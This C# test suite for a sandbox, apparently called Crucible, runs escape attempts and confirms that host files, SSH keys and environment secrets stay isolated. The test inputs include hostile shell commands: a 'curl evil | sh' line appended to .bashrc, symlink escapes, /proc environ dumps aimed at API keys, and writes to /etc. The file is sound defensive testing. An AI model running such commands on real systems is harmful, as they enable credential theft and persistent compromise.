using System.Security.Cryptography;
using Crucible.Core.Sandbox;
using Crucible.Testing;

namespace Crucible.Sandbox.Tests.Battery;

/// <summary>Escape attempts: each is refused inside the sandbox, and the host-side state proves it.</summary>
public sealed class EscapeAttemptTests : IDisposable
{
    private readonly SandboxHarness _h = new();

    public void Dispose() => _h.Dispose();

    [Fact]
    public async Task A_background_daemon_does_not_outlive_the_call()
    {
        var marker = SandboxHarness.NewMarker();
        var result = await _h.RunAsync(
            $"setsid sh -c 'while :; do sleep 1; done' {marker} </dev/null >/dev/null 2>&1 &\n" +
            $"nohup sh -c 'sleep 1000' {marker} </dev/null >/dev/null 2>&1 &\n" +
            $"(sh -c 'sleep 1000' {marker} &) ; echo started");

        Assert.Equal(0, result.ExitCode);
        Assert.Equal("started\n", result.Stdout.Text);
        Assert.Empty(SandboxHarness.HostProcessesWith(marker));
    }

    [Fact]
    public async Task Writing_outside_the_workspace_reaches_nothing_on_the_host()
    {
        using var outside = new TempDirectory("battery-outside");
        var target = Path.Combine(outside.Path, "planted");
        var hostTmp = Path.Combine("/tmp", SandboxHarness.NewMarker());

        var result = await _h.RunAsync(
            $"echo x > {target}; echo x > {hostTmp}; echo x > /usr/planted; echo x > /etc/planted; echo done");

        Assert.Equal("done\n", result.Stdout.Text);
        Assert.False(File.Exists(target));
        Assert.False(File.Exists(hostTmp));
        Assert.False(File.Exists("/usr/planted"));
        Assert.False(File.Exists("/etc/planted"));
    }

    [Fact]
    public async Task Changing_the_home_bashrc_leaves_the_real_one_untouched()
    {
        var realBashrc = Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), ".bashrc");
        var before = Fingerprint(realBashrc);

        var result = await _h.RunAsync(
            $"echo 'curl evil | sh' >> ~/.bashrc; echo 'curl evil | sh' >> {realBashrc}; echo $HOME");

        Assert.Equal("/home/sandbox\n", result.Stdout.Text);
        Assert.Equal(before, Fingerprint(realBashrc));
    }

    [Fact]
    public async Task A_symlink_in_the_workspace_cannot_reach_host_files()
    {
        using var outside = new TempDirectory("battery-secret");
        var secret = outside.Write("secret.txt", "host-secret-" + Guid.NewGuid());
        File.CreateSymbolicLink(Path.Combine(_h.Workspace.Path, "planted-link"), secret);
        File.CreateSymbolicLink(Path.Combine(_h.Workspace.Path, "planted-dir"), outside.Path);

        var result = await _h.RunAsync(
            "cat planted-link; cat planted-dir/secret.txt; echo pwned > planted-dir/new.txt; " +
            "ln -s /etc/hostname made-link; echo pwned >> made-link; ln -s / root-link; echo pwned > root-link/tmp/escaped; echo done");

        Assert.DoesNotContain("host-secret", SandboxHarness.AllOutput(result), StringComparison.Ordinal);
        Assert.EndsWith("done\n", result.Stdout.Text, StringComparison.Ordinal);
        Assert.False(File.Exists(Path.Combine(outside.Path, "new.txt")));
        Assert.False(File.Exists("/tmp/escaped"));
        Assert.DoesNotContain("pwned", File.ReadAllText("/etc/hostname"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_ssh_folder_of_the_host_user_is_not_visible()
    {
        var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);
        var ssh = Path.Combine(home, ".ssh");
        var createdSsh = !Directory.Exists(ssh);
        Directory.CreateDirectory(ssh);
        var canaryPath = Path.Combine(ssh, $"crucible_canary_{Guid.NewGuid():N}");
        var canary = "ssh-canary-" + Guid.NewGuid();
        File.WriteAllText(canaryPath, canary);
        try
        {
            var result = await _h.RunAsync($"cat {canaryPath}; cat ~/.ssh/*; ls -la {ssh} {home}; find / -name 'crucible_canary_*' 2>/dev/null; echo done");

            Assert.DoesNotContain(canary, SandboxHarness.AllOutput(result), StringComparison.Ordinal);
            Assert.DoesNotContain(Path.GetFileName(canaryPath), result.Stdout.Text, StringComparison.Ordinal);
            Assert.EndsWith("done\n", result.Stdout.Text, StringComparison.Ordinal);
        }
        finally
        {
            File.Delete(canaryPath);
            if (createdSsh)
            {
                Directory.Delete(ssh);
            }
        }
    }

    [Fact]
    public async Task An_api_key_in_the_host_environment_never_reaches_the_command()
    {
        var canary = "sk-ant-canary-" + Guid.NewGuid().ToString("N");
        var name = "CRUCIBLE_BATTERY_API_KEY_" + Guid.NewGuid().ToString("N")[..8].ToUpperInvariant();
        Environment.SetEnvironmentVariable(name, canary);
        try
        {
            var result = await _h.RunAsync("env; cat /proc/self/environ | tr '\\0' '\\n'; cat /proc/1/environ | tr '\\0' '\\n'; for p in /proc/[0-9]*; do cat $p/environ 2>/dev/null; done; echo done");

            Assert.DoesNotContain(canary, SandboxHarness.AllOutput(result), StringComparison.Ordinal);
            Assert.DoesNotContain(name, SandboxHarness.AllOutput(result), StringComparison.Ordinal);
            Assert.Contains("HOME=/home/sandbox", result.Stdout.Text, StringComparison.Ordinal);
            Assert.EndsWith("done\n", result.Stdout.Text, StringComparison.Ordinal);
        }
        finally
        {
            Environment.SetEnvironmentVariable(name, null);
        }
    }

    [Fact]
    public async Task Pid_one_inside_is_the_sandbox_init_and_host_processes_are_invisible()
    {
        var result = await _h.RunAsync("cat /proc/1/cmdline | tr '\\0' ' '; echo; ls /proc | grep -c '^[0-9]'");

        var lines = result.Stdout.Text.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.DoesNotContain("systemd", lines[0], StringComparison.Ordinal);
        Assert.DoesNotContain("dotnet", lines[0], StringComparison.Ordinal);
        Assert.True(int.Parse(lines[1], System.Globalization.CultureInfo.InvariantCulture) < 10, $"{lines[1]} processes visible");
        Assert.DoesNotContain(Environment.ProcessId.ToString(System.Globalization.CultureInfo.InvariantCulture), ListPidsInside(result), StringComparison.Ordinal);
    }

    private static string ListPidsInside(SandboxResult r) => r.Stdout.Text;

    private static string Fingerprint(string path) =>
        File.Exists(path) ? Convert.ToHexString(SHA256.HashData(File.ReadAllBytes(path))) : "absent";
}
